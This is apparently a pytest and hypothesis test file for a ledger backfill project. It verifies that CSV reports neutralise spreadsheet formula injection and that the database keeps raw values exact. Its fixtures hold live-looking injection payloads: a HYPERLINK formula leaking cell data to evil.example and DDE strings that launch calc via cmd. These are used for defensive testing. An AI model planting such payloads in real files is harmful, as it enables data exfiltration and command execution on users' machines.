"""Spreadsheet formula injection in the CSV reports (issue #13, class 7).

Error reports and the reconciliation's CSVs carry text from the source (raw malformed lines,
account ids). A spreadsheet runs a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return as a formula; OWASP's advice for CSV exports is to quote every text cell and to prefix
such a cell with `'`. Numbers stay numbers, and the raw value stays exact in the database.
"""

from __future__ import annotations

import csv
import tempfile
from decimal import Decimal
from pathlib import Path

import psycopg
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ledger_backfill_dagster.entries.fields import CANONICAL_FIELDS
from ledger_backfill_dagster.ledger.reports import FORMULA_TRIGGERS, PLAIN_NUMBER, write_csv
from ledger_backfill_dagster_tests.support.hardening_support import (
    DAY,
    Cli,
    entry,
    ok,
    write_accounts,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ACCOUNTS = {HYPERLINK: "USD", "-5": "USD", "+1+1": "USD", "@SUM(1+1)*cmd|' /C calc'!A0": "USD"}
MALFORMED = [
    "=cmd|' /C calc'!A0",
    "+1+1,2",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example","x"),1',
    "-5",  # a plain number: not a formula, left as it is
]


def _read(path: Path) -> tuple[list[list[str]], list[list[object]]]:
    """The cells as text, and as a spreadsheet types them (unquoted = number)."""
    with path.open(newline="", encoding="utf-8") as handle:
        text = list(csv.reader(handle))
    with path.open(newline="", encoding="utf-8") as handle:
        typed = list(csv.reader(handle, quoting=csv.QUOTE_NONNUMERIC))
    return text, typed


def _safe(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_TRIGGERS) and value != "-5" else value


@pytest.mark.slow
def test_reports_neutralise_formulas_and_the_database_keeps_the_raw_values(
    tmp_path: Path, backfill_env: dict[str, str], monkeypatch: pytest.MonkeyPatch, database_url
) -> None:
    ids = list(ACCOUNTS)
    rows = [
        entry("R1", ids[0], ids[1], "10.00", "USD", when=f"{DAY}T01:00:00Z"),
        entry("R2", ids[3], ids[2], "1.00", "USD", when=f"{DAY}T02:00:00Z"),
        entry("R3", "=1+2", ids[1], "1.00", "USD", when=f"{DAY}T03:00:00Z"),  # no such account
    ]
    source = tmp_path / "data" / "export.csv"
    source.parent.mkdir()
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, CANONICAL_FIELDS, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
        handle.write("\n".join(MALFORMED) + "\n")  # lines with the wrong number of fields
    cli = Cli(
        tmp_path, backfill_env, monkeypatch, source, write_accounts(tmp_path / "a.csv", ACCOUNTS)
    )
    ok(cli.materialize())

    # Raw malformed lines: neutralised in the report, exact in the database.
    text, typed = _read(cli.reports / "errors" / "unpartitioned.csv")
    header = text[0]
    assert header == ["source_row_id", "source_file", "line_number", "reasons", "raw_row"]
    by_line = {int(row[2]): row for row in text[1:]}
    first_malformed = len(rows) + 2
    assert set(by_line) == set(range(first_malformed, first_malformed + len(MALFORMED)))
    for offset, line in enumerate(MALFORMED):
        assert by_line[first_malformed + offset][4] == _safe(line), line
    for row in typed[1:]:
        assert isinstance(row[0], float) and isinstance(row[2], float)  # numbers stay numbers
        assert all(isinstance(cell, str) for cell in (row[1], row[3], row[4]))
    with psycopg.connect(database_url, autocommit=True) as conn:
        stored = dict(
            conn.execute(
                "SELECT line_number, raw_text FROM ledger_backfill_rejects WHERE raw_text IS NOT NULL"
            ).fetchall()
        )
        assert stored == {first_malformed + i: line for i, line in enumerate(MALFORMED)}

        # The contract reject: listed in its day's report with its reasons.
        text, _ = _read(cli.reports / "errors" / f"{DAY}.csv")
        [reject] = text[1:]
        assert reject[3] == "debitAccountId: no such account"
        assert '"=1+2"' in reject[4]  # inside the raw row's JSON, which begins with "{"

        # Balances nudged by hand: the run fails and lists them; the ids are neutralised, the
        # amounts are numbers, the database keeps the ids as they are.
        nudged = [HYPERLINK, "-5", "+1+1"]
        conn.execute(
            "UPDATE bank_accounts SET balance = balance + 0.01,"
            " available_balance = available_balance + 0.01 WHERE id = ANY(%s)",
            (nudged,),
        )
        assert {r[0] for r in conn.execute("SELECT id FROM bank_accounts")} == set(ACCOUNTS)
    assert cli.materialize().returncode != 0
    [balances] = (cli.reports / "reconciliation").glob("*_balances.csv")
    text, typed = _read(balances)
    assert text[0] == [
        "account_id",
        "currency_code",
        "expected_balance",
        "actual_balance",
        "difference",
    ]
    assert sorted(row[0] for row in text[1:]) == sorted(_safe(a) for a in nudged)
    for row, types in zip(text[1:], typed[1:], strict=True):
        assert Decimal(row[3]) - Decimal(row[2]) == Decimal("0.01")
        assert all(isinstance(cell, float) for cell in types[2:])  # unquoted: numbers
        assert isinstance(types[0], str) and isinstance(types[1], str)


# -- properties -------------------------------------------------------------------------------

TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"))
CELLS = st.one_of(
    TEXT,
    st.sampled_from(FORMULA_TRIGGERS).flatmap(lambda t: TEXT.map(lambda s: t + s)),
    st.from_regex(r"-?[0-9]{1,30}(\.[0-9]{1,18})?", fullmatch=True),
    st.integers(-(10**30), 10**30),
    st.decimals(allow_nan=False, allow_infinity=False, places=18),
    st.none(),
)


@settings(max_examples=500, deadline=None)
@given(rows=st.lists(st.lists(CELLS, min_size=3, max_size=3), min_size=1, max_size=5))
def test_no_text_cell_can_start_a_formula_and_numbers_stay_numbers(
    rows: list[list[object]],
) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "report.csv"
        write_csv(path, ["a", "b", "c"], rows)
        text, typed = _read(path)
    assert text[0] == ["a", "b", "c"]
    for written, read, types in zip(rows, text[1:], typed[1:], strict=True):
        for value, cell, kind in zip(written, read, types, strict=True):
            if value is None:
                assert cell == ""
            elif isinstance(value, int | Decimal):
                assert Decimal(cell) == value and isinstance(kind, float)
            else:
                formula = value.startswith(FORMULA_TRIGGERS) and not PLAIN_NUMBER.fullmatch(value)
                assert cell == ("'" + value if formula else value)
                assert not cell.startswith(FORMULA_TRIGGERS) or PLAIN_NUMBER.fullmatch(cell)
                assert isinstance(kind, str)  # quoted: a spreadsheet takes it as text
